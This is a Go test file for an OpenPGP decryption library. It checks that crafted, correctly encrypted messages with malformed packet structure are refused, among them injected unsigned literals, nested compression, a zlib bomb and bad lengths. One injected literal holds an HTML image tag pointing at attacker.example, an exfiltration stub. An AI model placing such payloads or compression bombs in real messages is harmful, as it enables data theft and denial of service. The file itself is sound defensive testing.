package endpoint

// reliability.md P8 (malicious packets) and P9 (unsigned data injected
// around a signature; GnuPG tests/openpgp/verify.scm), each inside a
// correctly encrypted and integrity-protected message, so that only the
// packet grammar can refuse them.

import (
	"bytes"
	"testing"
)

func TestGrammarP9UnsignedInjection(t *testing.T) {
	t.Parallel()
	me := keyFor(t, ProfileDefault)
	sender := keyFor(t, ProfileRFC9580)
	ops, lit, sig := signedPackets(t, sender.entity, plaintext)
	evil := literal(t, []byte("<img src=\"http://attacker.example/"))
	senderPublic := publicCert(t, sender)

	if res, err := decryptWith(craft(t, me.entity, cat(ops, lit, sig), formSEIPDv1), me.entity, senderPublic); err != nil || res.Signature != SignatureGood {
		t.Fatalf("msg_ols: %v, %v; want a good signature", res, err)
	}
	for name, inner := range map[string][]byte{
		"bad_ls (no one-pass signature)":                 cat(lit, sig),
		"bad_fols (unsigned literal before)":             cat(evil, ops, lit, sig),
		"bad_olsf (unsigned literal after)":              cat(ops, lit, sig, evil),
		"bad_ools (two one-pass signatures, one sig)":    cat(ops, ops, lit, sig),
		"two literal packets":                            cat(lit, evil),
		"one-pass signature, no signature":               cat(ops, lit),
		"signature only":                                 sig,
		"empty":                                          nil,
		"compressed signed message then literal":         cat(compressed(t, cat(ops, lit, sig)), evil),
		"literal then compressed":                        cat(evil, compressed(t, lit)),
		"encrypted message inside the encrypted message": craft(t, me.entity, lit, formSEIPDv1),
	} {
		wantRefused(t, name, craft(t, me.entity, inner, formSEIPDv1), me.entity, senderPublic)
	}
}

func TestGrammarP8(t *testing.T) {
	t.Parallel()
	me := keyFor(t, ProfileDefault)
	lit := literal(t, plaintext)

	nested := lit
	for range maxCompressionDepth {
		nested = compressed(t, nested)
	}
	if _, err := decryptWith(craft(t, me.entity, nested, formSEIPDv1), me.entity); err != nil {
		t.Fatalf("%d nested compressed packets: %v", maxCompressionDepth, err)
	}
	deep := lit
	for range 100 {
		deep = compressed(t, deep)
	}
	wantRefused(t, "100 nested compressed packets", craft(t, me.entity, deep, formSEIPDv1), me.entity)

	// Zlib bomb: 16 MiB of zeros compress to a few KiB; the cap is 1 MiB.
	bomb := compressed(t, literal(t, make([]byte, 16<<20)))
	if len(bomb) > 64<<10 {
		t.Fatalf("bomb is %d bytes", len(bomb))
	}
	wantRefused(t, "compression bomb", craft(t, me.entity, bomb, formSEIPDv1), me.entity)
	wantRefused(t, "zero-length compressed packet", craft(t, me.entity, newPacket(8, []byte{1}), formSEIPDv1), me.entity)
	wantRefused(t, "compressed marker packet", craft(t, me.entity, compressed(t, newPacket(10, []byte("PGP"))), formSEIPDv1), me.entity)
	wantRefused(t, "packet length beyond the data", craft(t, me.entity, []byte{0xcb, 0xff, 0xff, 0xff, 0xff, 0xff, 'b', 0, 0, 0, 0, 0}, formSEIPDv1), me.entity)
	wantRefused(t, "unknown critical packet", craft(t, me.entity, cat(newPacket(39, []byte("x")), lit), formSEIPDv1), me.entity)

	_, _, sig := signedPackets(t, me.entity, plaintext)
	var many []byte
	for range maxPacketsPerLevel + 1 {
		many = append(many, newPacket(21, []byte{0})...) // padding is ignored,
		many = append(many, sig...)                      // signatures are counted
	}
	if _, err := decryptWith(craft(t, me.entity, cat(bytes.Repeat(sig, maxPacketsPerLevel-1), lit), formSEIPDv1), me.entity); err != nil {
		t.Fatalf("%d packets: %v", maxPacketsPerLevel, err)
	}
	wantRefused(t, "too many packets", craft(t, me.entity, cat(many, lit), formSEIPDv1), me.entity)

	// Marker and padding packets (RFC 9580 §5.8, §5.14) are ignored.
	padded := cat(newPacket(10, []byte("PGP")), lit, newPacket(21, bytes.Repeat([]byte{0}, 32)))
	if res, err := decryptWith(craft(t, me.entity, padded, formSEIPDv1), me.entity); err != nil || !bytes.Equal(res.Plaintext, plaintext) {
		t.Fatalf("marker and padding: %v, %v", res, err)
	}
}
